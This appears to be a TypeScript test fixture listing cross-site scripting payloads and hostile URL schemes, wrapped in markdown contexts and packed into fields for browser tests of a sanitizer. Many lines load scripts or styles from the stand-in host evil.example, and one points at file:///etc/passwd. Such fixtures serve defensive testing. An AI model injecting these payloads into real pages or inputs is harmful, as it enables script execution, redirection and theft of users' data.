import { sampled } from './extent.ts'

/** XSS payloads. One that succeeds calls `ran`, opens a dialog or requests evil.example, which tests watch for. */

const HTML = [
  '<script>ran(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT/x>ran(1)</SCRIPT>',
  '<scr<script>ipt>ran(1)</script>',
  '<script>/*',
  '<img src=x onerror=ran(1)>',
  "<img/src='x'/onerror=ran(1)>",
  '<img src=x onerror\n=ran(1)>',
  '<img src=//evil.example/x.png>',
  '<img srcset="//evil.example/x 1x">',
  '<svg onload=ran(1)>',
  '<svg/onload=ran(1)//',
  '<svg><script>ran(1)</script></svg>',
  '<svg><a xlink:href=javascript:ran(1)><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ran(1)>#x">',
  '<svg><foreignObject><iframe src=javascript:ran(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>',
  '<math><mi xlink:href="javascript:ran(1)">x</mi></math>',
  '<math href=javascript:ran(1)>x</math>',
  '<iframe src=javascript:parent.ran(1)></iframe>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<object data=javascript:ran(1)></object>',
  '<object data=//evil.example/x.swf></object>',
  '<embed src=//evil.example/x.swf>',
  '<form action=javascript:ran(1)><button autofocus>x</button></form>',
  '<button form=x formaction=javascript:ran(1)>x</button>',
  '<input autofocus onfocus=ran(1)>',
  '<textarea autofocus onfocus=ran(1)>',
  '<select autofocus onfocus=ran(1)>',
  '<details open ontoggle=ran(1)>x</details>',
  '<video><source onerror=ran(1)></video>',
  '<video poster=//evil.example/p.png>',
  '<audio src=x onerror=ran(1)>',
  '<body onload=ran(1)>',
  '<marquee onstart=ran(1)>x</marquee>',
  "<style>@import '//evil.example/x.css';</style>",
  '<style>*{background:url(//evil.example/x)}</style>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=ran(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<div style="background:url(//evil.example/b)">x</div>',
  '<div style="width:expression(ran(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<x onclick=ran(1) onmouseover=ran(1)>x</x>',
  '<xss id=x tabindex=1 onfocus=ran(1)>x</xss>',
  '<a href=javascript:ran(1)>x</a>',
  '<a href=" &#14; javascript:ran(1)">x</a>',
  '<a href="jav&#x0A;ascript:ran(1)">x</a>',
  '<a href=//evil.example ping=//evil.example/ping>x</a>',
  '<a id=root name=body href=#>x</a>',
  '<template><script>ran(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran(1)></style>',
  '<!--><img src=x onerror=ran(1)>-->',
  '<![CDATA[><img src=x onerror=ran(1)>]]>',
  '<?xml-stylesheet href=javascript:ran(1)?>',
  '</textarea></title></style><script>ran(1)</script>',
  '"><script>ran(1)</script>',
  `' onmouseover='ran(1)' x='`,
  '\u202e>tpircs/<)1(nar>tpircs<',
  '\\u003cscript\\u003eran(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1eran(1)\uff1c/script\uff1e',
  '&lt;script&gt;ran(1)&lt;/script&gt;',
  '&#60;script&#62;ran(1)&#60;/script&#62;',
  "{{constructor.constructor('ran(1)')()}}",
  `$${'{ran(1)}'}`,
  '<%= ran(1) %>',
  '#{ran(1)}',
]

const ADDRESSES = [
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=ran(1)>',
  'java\tscript:ran(1)',
  'java&#10;script:ran(1)',
  '&#106;avascript:ran(1)',
  '&#x6A;&#x61;&#x76;&#x61;script:ran(1)',
  'javascript&colon;ran(1)',
  'javascript&#58;ran(1)',
  '\u0001javascript:ran(1)',
  'javascript://example.org/%0aran(1)',
  'javascript:ran(1)//http://example.org',
  'java%0ascript:ran(1)',
  '%6aavascript:ran(1)',
  '\uff4aavascript:ran(1)',
  'javascript\u200b:ran(1)',
  'javascript\\:ran(1)',
  'vbscript:ran(1)',
  'livescript:ran(1)',
  'data:text/html,<script>ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
  'DATA:image/svg+xml,<svg/onload=ran(1)>',
  'feed:javascript:ran(1)',
  'view-source:javascript:ran(1)',
  'blob:http://evil.example/1',
  'filesystem:http://evil.example/1',
  'file:///etc/passwd',
  'about:blank',
  'intent://x#Intent;scheme=javascript;end',
  'jar:http://evil.example!/x',
  'http:javascript:ran(1)',
  'http://javascript:ran(1)@evil.example/',
  'https://example.org/"onmouseover="ran(1)',
  "https://example.org/'onmouseover='ran(1)",
  '//evil.example/x',
  '\\\\evil.example\\x',
  'mailto:a@example.org?body=<script>ran(1)</script>',
  'ftp://evil.example/x',
  'x:ran(1)',
]

let label = 0
const inHtml: ((html: string) => string)[] = [
  (html) => html,
  (html) => `[${html}](https://example.org)`,
  (html) => `| ${html.replaceAll('\n', ' ')} |\n|---|\n| x |`,
  (html) => `> - **${html}**`,
]
const inAddress: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](${address} "t\\" onmouseover=ran(1) x=\\"")`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][r${++label}]\n\n[r${label}]: ${address}`,
  (address) => `x[^f${++label}]\n\n[^f${label}]: [x](${address})`,
  (address) => `- [ ] ***[x](<${address}>)***`,
  (address) => `<a href="${address}">x</a>`,
]

const combined = (texts: string[], contexts: ((text: string) => string)[]) =>
  texts.flatMap((text) => contexts.map((put) => put(text)))

/** Every payload as it is, and in every markdown context. */
export const HOSTILE_ADDRESSES: readonly string[] = ADDRESSES
export const HOSTILE_DOCUMENTS: readonly string[] = [
  ...new Set([...combined(HTML, inHtml), ...combined(ADDRESSES, inAddress)]),
]

/** The payloads that browser tests store and read. */
const STORED_DOCUMENTS = sampled(HOSTILE_DOCUMENTS, 120)

/** Closes what a payload may have left open; the number proves that the previous one did not swallow it. */
const divided = (document: string, number: number) =>
  `doc${number}end\n\n${document}\n\n-->?>]]></script></style></textarea></pre>\n\n`

/** All stored payloads in as few texts of this length as possible. */
export function packedMarkdown(limit: number): string[] {
  return pack(STORED_DOCUMENTS.map(divided), limit)
}

/** For plain text fields; payloads longer than the field are left out. */
export function packedText(limit: number): string[] {
  return pack(
    STORED_DOCUMENTS.filter((document) => document.length < limit).map((document) => `${document} `),
    limit,
  )
}

function pack(parts: string[], limit: number): string[] {
  const packed = ['']
  for (const part of parts) {
    const last = packed.at(-1) ?? ''
    if (last.length + part.length > limit) packed.push(part)
    else packed[packed.length - 1] = last + part
  }
  return packed
}
